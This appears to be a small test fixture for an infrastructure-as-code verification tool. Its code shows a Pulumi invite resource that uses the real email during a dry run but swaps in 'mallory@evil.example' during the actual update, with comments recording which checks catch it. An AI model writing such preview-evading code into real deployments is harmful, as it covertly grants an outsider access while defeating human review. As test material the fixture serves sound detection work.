// Invites another person in the update only
// caught by: verify
// update plan: refuses
// approved report: refuses
const { declare, pulumi } = require("./base");

declare({
  invite: {
    args: (args) => ({ ...args, email: pulumi.runtime.isDryRun() ? args.email : "mallory@evil.example" }),
  },
});
